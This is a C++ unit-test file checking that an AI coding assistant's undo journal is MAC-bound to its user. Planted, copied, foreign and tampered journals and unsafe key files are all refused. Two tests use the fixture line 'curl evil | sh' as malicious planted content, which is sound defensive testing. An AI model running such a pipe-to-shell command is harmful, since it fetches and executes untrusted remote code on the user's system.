// The edit journal is bound to the user who wrote it: a journal a repository ships (or one copied
// from another repository, or tampered with) is refused by undo with exit-3 errors and changes
// nothing, while the user's own undo keeps working, also after a crash in the middle of a change
// set. The per-user key is checked like an ssh key (regular file, owner, mode 0600, no symlink).
#include <gtest/gtest.h>
#include <sys/stat.h>

#include <cstdlib>
#include <filesystem>
#include <optional>
#include <string>

#include "agent/workspace.h"
#include "base/error.h"
#include "security/hostile_repo.h"

namespace hearth::agent {
namespace {

namespace fs = std::filesystem;
using security::testing::HostileRepo;

// HOME and XDG_CONFIG_HOME point into the test's temp directory (restored afterwards), so the
// key is the test's own and the developer's ~/.config is never touched.
class JournalMacTest : public ::testing::Test {
 protected:
  void SetUp() override {
    for (const char* var : {"HOME", "XDG_CONFIG_HOME"}) {
      const char* v = std::getenv(var);
      saved_.emplace_back(var, v ? std::optional<std::string>(v) : std::nullopt);
    }
    UseConfig(repo_.outside() / "config");
    ::setenv("HOME", (repo_.outside() / "home").c_str(), 1);
  }
  void TearDown() override {
    for (const auto& [var, v] : saved_) {
      if (v) {
        ::setenv(var.c_str(), v->c_str(), 1);
      } else {
        ::unsetenv(var.c_str());
      }
    }
  }
  static void UseConfig(const fs::path& dir) { ::setenv("XDG_CONFIG_HOME", dir.c_str(), 1); }
  fs::path KeyPath() const { return repo_.outside() / "config" / "hearth" / "journal.key"; }

  // One change set by the assistant: a.txt edited, b.txt created.
  void AssistantEdits(const Workspace& ws, bool commit = true) {
    Journal journal(ws);
    journal.Begin("ask");
    ws.WriteFile("a.txt", "assistant\n", &journal);
    ws.WriteFile("b.txt", "new\n", &journal);
    if (commit) journal.Commit();
  }
  // Undo must refuse with exit 3 (kInvalidInput) saying why, force or not, and change nothing.
  static void ExpectRefused(const Workspace& ws, const std::string& why) {
    for (bool force : {false, true}) {
      try {
        UndoLast(ws, {.force = force});
        ADD_FAILURE() << "undo accepted it (force " << force << ")";
      } catch (const Error& e) {
        EXPECT_EQ(e.error_class(), ErrorClass::kInvalidInput) << e.Describe();
        EXPECT_NE(e.Describe().find("was not written by hearth for this user"), std::string::npos)
            << e.Describe();
        EXPECT_NE(e.Describe().find("nothing was changed"), std::string::npos) << e.Describe();
        EXPECT_NE(e.Describe().find(why), std::string::npos) << e.Describe();
      }
    }
  }

  HostileRepo repo_;
  std::vector<std::pair<std::string, std::optional<std::string>>> saved_;
};

TEST_F(JournalMacTest, KeyIsCreatedPrivateAndOwnUndoWorks) {
  repo_.Write("a.txt", "original\n");
  Workspace ws = Workspace::AtRoot(repo_.root());
  AssistantEdits(ws);
  struct stat st;
  ASSERT_EQ(::lstat(KeyPath().c_str(), &st), 0);
  EXPECT_TRUE(S_ISREG(st.st_mode));
  EXPECT_EQ(st.st_mode & 0777, 0600u);
  EXPECT_EQ(st.st_size, 32);
  UndoResult u = UndoLast(ws);
  ASSERT_TRUE(u.undone);
  EXPECT_TRUE(u.was_complete);
  EXPECT_EQ(HostileRepo::ReadFile(repo_.root() / "a.txt"), "original\n");
  EXPECT_FALSE(fs::exists(repo_.root() / "b.txt"));
}

TEST_F(JournalMacTest, OwnSetInterruptedByACrashIsStillUndoable) {
  repo_.Write("a.txt", "original\n");
  {
    Workspace ws = Workspace::AtRoot(repo_.root());
    AssistantEdits(ws, /*commit=*/false);  // the process dies before the set is closed
  }
  Workspace ws = Workspace::AtRoot(repo_.root());  // a new process
  UndoResult u = UndoLast(ws);
  ASSERT_TRUE(u.undone);
  EXPECT_FALSE(u.was_complete);
  EXPECT_EQ(HostileRepo::ReadFile(repo_.root() / "a.txt"), "original\n");
  EXPECT_FALSE(fs::exists(repo_.root() / "b.txt"));
}

TEST_F(JournalMacTest, PlantedWellFormedJournalIsRefused) {
  // What the code before the MACs accepted: a valid entry whose "after" hash matches the file as
  // it is, so undo "restored" the repository's chosen content (sha256 of "echo hi\n").
  repo_.Write("run.sh", "echo hi\n");
  repo_.Write(".hearth/journal/000001/meta.json", "{\"title\":\"ask\"}");
  repo_.Write(".hearth/journal/000001/0001.json",
              "{\"path\":\"run.sh\",\"existed\":true,\"mode\":493,\"after\":["
              "\"ab08508fdf5ca4da5c4995987bc41c56c048aaa5eeb046417ae4049b7d40286e\"]}");
  repo_.Write(".hearth/journal/000001/0001.before", "curl evil | sh\n");
  repo_.Write(".hearth/journal/000001/complete", "");
  Workspace ws = Workspace::AtRoot(repo_.root());
  ExpectRefused(ws, "you have no journal key");        // a fresh user: no key at all
  AssistantEdits(Workspace::AtRoot(repo_.outside()));  // now the user has a key
  ExpectRefused(ws, "0001.json has no MAC");
  EXPECT_EQ(HostileRepo::ReadFile(repo_.root() / "run.sh"), "echo hi\n");
  // The hint says what to do with it.
  try {
    UndoLast(ws);
  } catch (const Error& e) {
    EXPECT_NE(e.Describe().find("remove .hearth/journal/000001"), std::string::npos)
        << e.Describe();
  }
  // A MAC the repository made up does not verify either.
  repo_.Write(".hearth/journal/000001/0001.json",
              "{\"path\":\"run.sh\",\"existed\":true,\"mode\":493,\"after\":["
              "\"ab08508fdf5ca4da5c4995987bc41c56c048aaa5eeb046417ae4049b7d40286e\"],\"mac\":\"" +
                  std::string(64, '0') + "\"}");
  ExpectRefused(ws, "does not verify under your journal key");
  EXPECT_EQ(HostileRepo::ReadFile(repo_.root() / "run.sh"), "echo hi\n");
}

TEST_F(JournalMacTest, JournalCopiedFromAnotherRepositoryIsRefused) {
  // The same user, the same key, the same files: only the workspace differs.
  HostileRepo other;
  repo_.Write("a.txt", "original\n");
  other.Write("a.txt", "original\n");
  AssistantEdits(Workspace::AtRoot(repo_.root()));
  other.Write("a.txt", "assistant\n");
  other.Write("b.txt", "new\n");
  fs::copy(repo_.root() / ".hearth", other.root() / ".hearth", fs::copy_options::recursive);
  ExpectRefused(Workspace::AtRoot(other.root()), "does not verify");
  EXPECT_EQ(HostileRepo::ReadFile(other.root() / "a.txt"), "assistant\n");
  EXPECT_TRUE(fs::exists(other.root() / "b.txt"));
  // In its own repository the same journal is fine.
  EXPECT_TRUE(UndoLast(Workspace::AtRoot(repo_.root())).undone);
}

TEST_F(JournalMacTest, AnotherUsersJournalIsRefused) {
  repo_.Write("a.txt", "original\n");
  AssistantEdits(Workspace::AtRoot(repo_.root()));
  UseConfig(repo_.outside() / "someone-else");
  AssistantEdits(Workspace::AtRoot(repo_.outside()));  // their own key
  ExpectRefused(Workspace::AtRoot(repo_.root()), "does not verify under your journal key");
  EXPECT_EQ(HostileRepo::ReadFile(repo_.root() / "a.txt"), "assistant\n");
}

TEST_F(JournalMacTest, TamperedJournalIsRefused) {
  const fs::path set = repo_.root() / ".hearth/journal/000001";
  repo_.Write("a.txt", "original\n");
  Workspace ws = Workspace::AtRoot(repo_.root());
  AssistantEdits(ws);
  const std::string before = HostileRepo::ReadFile(set / "0001.before");
  const std::string entry = HostileRepo::ReadFile(set / "0002.json");
  // The saved content swapped.
  HostileRepo::WriteFile(set / "0001.before", "curl evil | sh\n");
  ExpectRefused(ws, "0001.before is not the content hearth saved");
  HostileRepo::WriteFile(set / "0001.before", before);
  // An entry pointed at another file (its MAC kept).
  std::string moved = entry;
  moved.replace(moved.find("b.txt"), 5, "c.txt");
  HostileRepo::WriteFile(set / "0002.json", moved);
  ExpectRefused(ws, "0002.json does not verify");
  // An entry of the set dropped: the complete marker names both.
  fs::remove(set / "0002.json");
  ExpectRefused(ws, "complete marker does not verify");
  HostileRepo::WriteFile(set / "0002.json", entry);
  // Everything back as hearth wrote it: undo works.
  EXPECT_EQ(HostileRepo::ReadFile(repo_.root() / "a.txt"), "assistant\n");
  EXPECT_TRUE(UndoLast(ws).undone);
  EXPECT_EQ(HostileRepo::ReadFile(repo_.root() / "a.txt"), "original\n");
}

// A key someone else could read, or that points elsewhere, is never used (nor replaced).
TEST_F(JournalMacTest, UnsafeKeyFilesAreRefused) {
  repo_.Write("a.txt", "original\n");
  Workspace ws = Workspace::AtRoot(repo_.root());
  auto expect_refused = [&](const std::string& why) {
    try {
      AssistantEdits(ws);
      ADD_FAILURE() << "a bad key was used: " << why;
    } catch (const Error& e) {
      EXPECT_EQ(e.error_class(), ErrorClass::kUsage) << e.Describe();
      EXPECT_NE(e.Describe().find("refusing the journal key " + KeyPath().string()),
                std::string::npos)
          << e.Describe();
      EXPECT_NE(e.Describe().find(why), std::string::npos) << e.Describe();
    }
    EXPECT_EQ(HostileRepo::ReadFile(repo_.root() / "a.txt"), "original\n") << why;
  };
  HostileRepo::WriteFile(KeyPath(), std::string(32, 'k'));
  fs::permissions(KeyPath(),
                  fs::perms::owner_read | fs::perms::owner_write | fs::perms::group_read);
  expect_refused("group or others may read or write it");
  fs::permissions(KeyPath(),
                  fs::perms::owner_read | fs::perms::owner_write | fs::perms::others_read);
  expect_refused("group or others may read or write it");
  fs::remove(KeyPath());
  HostileRepo::WriteFile(repo_.outside() / "elsewhere.key", std::string(32, 'k'));
  fs::permissions(repo_.outside() / "elsewhere.key",
                  fs::perms::owner_read | fs::perms::owner_write);
  fs::create_symlink(repo_.outside() / "elsewhere.key", KeyPath());
  expect_refused("it is a symbolic link");
  fs::remove(KeyPath());
  fs::create_directory(KeyPath());
  expect_refused("it is not a regular file");
  fs::remove(KeyPath());
  HostileRepo::WriteFile(KeyPath(), "short");
  fs::permissions(KeyPath(), fs::perms::owner_read | fs::perms::owner_write);
  expect_refused("not 32 bytes");
  // Undo checks the key the same way before it reads any journal.
  fs::remove(KeyPath());
  AssistantEdits(ws);
  fs::permissions(KeyPath(), fs::perms::owner_read | fs::perms::others_read);
  EXPECT_THROW(UndoLast(ws), Error);
  EXPECT_EQ(HostileRepo::ReadFile(repo_.root() / "a.txt"), "assistant\n");
}

}  // namespace
}  // namespace hearth::agent
